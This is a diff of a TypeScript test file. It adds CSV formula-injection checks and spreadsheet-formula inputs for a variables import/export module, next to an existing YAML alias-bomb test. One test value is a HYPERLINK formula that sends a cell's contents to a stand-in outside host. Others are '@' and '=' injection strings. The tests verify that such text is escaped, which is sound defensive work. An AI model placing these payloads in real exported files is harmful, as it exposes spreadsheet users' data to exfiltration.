@@ -1,5 +1,6 @@
 import fc from 'fast-check'
 import { expect, test } from 'vitest'
+import { readCsv } from '../../lib/csv.ts'
 import { type FileFormat, fileText, readCsvFile, readYaml } from './formats.ts'
 import type { Variable, VariableFile, VariableValue } from './schema.ts'
 
@@ -25,6 +26,11 @@ const text = fc.oneof(
     '~',
     '2024-01-01',
     '=1+1',
+    "'=1+1",
+    "''@x",
+    "'it",
+    '-1',
+    '\t=1',
     '\u2028',
   ),
 )
@@ -129,4 +135,27 @@ test('YAML errors name their position, and aliases cannot grow without end', () 
       .join(',')}]`
   const bomb = ['l0: &l0 [x]', ...Array.from({ length: 8 }, (_, i) => level(i + 1))].join('\n')
   expect(faultsOf(() => readYaml(bomb))).toHaveLength(1)
+})
+
+test('no text of a CSV file is a formula to a spreadsheet, and numbers stay numbers', () => {
+  const common = { id: 'i', behaviour: 'COPIED', supportsDoubleResolution: false } as const
+  const call = '=HYPERLINK("http://far.test/?"&A1)'
+  const file = [
+    ...fileText('csv', [
+      { ...common, name: 'a', type: 'TEXT', value: call, description: '@SUM(1)', overrides: [] },
+      { ...common, name: 'b', type: 'NUMBER', value: -5, description: '', overrides: [] },
+      {
+        ...common,
+        name: 'c',
+        type: 'TEXT',
+        value: '',
+        description: '',
+        overrides: [{ environmentName: '+1', value: '-1' }],
+      },
+    ]),
+  ].join('')
+  const cells = readCsv(file).flatMap((record) => record.cells)
+  expect(cells.filter((cell) => /^[=+@\t\r-]/.test(cell))).toEqual(['-5'])
+  expect(cells).toContain(`'${call}`)
+  expect((readCsvFile(file) as { variables: { value: unknown }[] }).variables[0]!.value).toBe(call)
 })
